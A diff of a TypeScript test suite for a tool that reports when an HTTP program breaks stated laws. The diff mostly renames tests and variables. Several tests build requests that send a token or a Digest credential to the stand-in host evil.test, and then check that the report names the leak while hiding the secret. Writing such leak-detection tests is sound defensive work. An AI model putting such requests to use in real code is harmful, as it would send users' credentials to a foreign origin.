@@ -22,15 +22,15 @@ describe('a report', () => {
   const SECRET = 'it never sends a secret to another origin'
   const leaking = (change: Request.Request) => ({ program: Http.send(change), session: Session.empty })
 
-  it('says which request shows a secret, where, and to whom, and not which secret', async () => {
+  it('names the request, the origin and the header that leak a secret, but not the secret', async () => {
     const program = pipe(
       Http.get(`${good.home[0]}/items`),
       SRTE.flatMap(() => Http.get('https://evil.test/', Request.withHeader('X-Token', 's3cr3t'))),
     )
-    const said = await report({ program, secrets: ['s3cr3t'] }, SECRET)
-    expect(said).toContain('GET https://evil.test/ shows a secret to https://evil.test, in its header X-Token')
-    expect(said).toMatch(/Counterexample .*\n {2}\[\[\]\]/)
-    expect(said).not.toContain('s3cr3t')
+    const text = await report({ program, secrets: ['s3cr3t'] }, SECRET)
+    expect(text).toContain('GET https://evil.test/ sends a secret to https://evil.test, in its header X-Token')
+    expect(text).toMatch(/Counterexample .*\n {2}\[\[\]\]/)
+    expect(text).not.toContain('s3cr3t')
   })
   it.each<[string, Request.Request, string]>([
     ['the URL, encoded', Request.get('https://evil.test/?k=p%40ss%20word'), 'URL'],
@@ -44,18 +44,18 @@ describe('a report', () => {
   ])('finds a secret in %s', async (_, request, where) => {
     expect(await report({ ...leaking(request), secrets: ['p@ss word'] }, SECRET)).toContain(`in its ${where}`)
   })
-  it('finds a digest made for a stranger', async () => {
+  it('finds a digest that is sent to another origin', async () => {
     const request = pipe(Request.get('https://evil.test/'), Request.withHeader('Authorization', 'Digest username="me"'))
     const session = pipe(Session.empty, Session.withDigestAuth('me', 'long password'))
     expect(await report({ program: Http.send(request), session }, SECRET)).toContain('in its header Authorization')
   })
-  it('lets credentials go from http to https on the default ports of home', async () => {
+  it('allows credentials from http to https on the default ports of home', async () => {
     const session = pipe(Session.empty, Session.withBaseUrl('http://api.test'), Session.withBearer('s3cr3t-token'))
     expect(await report({ session, home: ['http://api.test'], program: Http.get('items') }, SECRET)).toBe('')
   })
 })
 
-describe('a bad program fails in time, and by name', () => {
+describe('a wrong program violates the law in time, with a report', () => {
   const ENDS = 'it ends within its requests'
   it.each<[string, Integration['program'], RegExp]>([
     ['never ends', () => () => () => new Promise(() => {}), /did not end within 100 ms/],
@@ -64,24 +64,24 @@ describe('a bad program fails in time, and by name', () => {
       () => {
         throw new Error('oops')
       },
-      /threw or rejected, .*oops/,
+      /threw or rejected .*oops/,
     ],
-    ['rejects', () => () => () => Promise.reject(new Error('oops')), /threw or rejected, .*oops/],
+    ['rejects', () => () => () => Promise.reject(new Error('oops')), /threw or rejected .*oops/],
     [
-      'sends for ever',
+      'sends requests without end',
       (jar) => (client) => async () => {
         for (;;) await Http.attempt(Request.get('items'))(jar)(client)()
       },
       /sends more than 12 requests\n {4}1\. GET https:\/\/api\.test\/items/,
     ],
-  ])('one that %s', async (_, program, says) => {
+  ])('one that %s', async (_, program, pattern) => {
     const start = performance.now()
-    const said = await report({ program, patience: 100 }, ENDS)
-    expect(said).toContain(`The law "${ENDS}" does not hold.`)
-    expect(said).toMatch(says)
+    const text = await report({ program, patience: 100 }, ENDS)
+    expect(text).toContain(`The law "${ENDS}" does not hold.`)
+    expect(text).toMatch(pattern)
     expect(performance.now() - start).toBeLessThan(5_000)
   })
-  it('one that fails with a Left is none', async () => {
+  it('one that fails with a Left does not violate the law', async () => {
     expect(await report({ program: () => () => async () => E.left('no') }, ENDS)).toBe('')
   })
 })
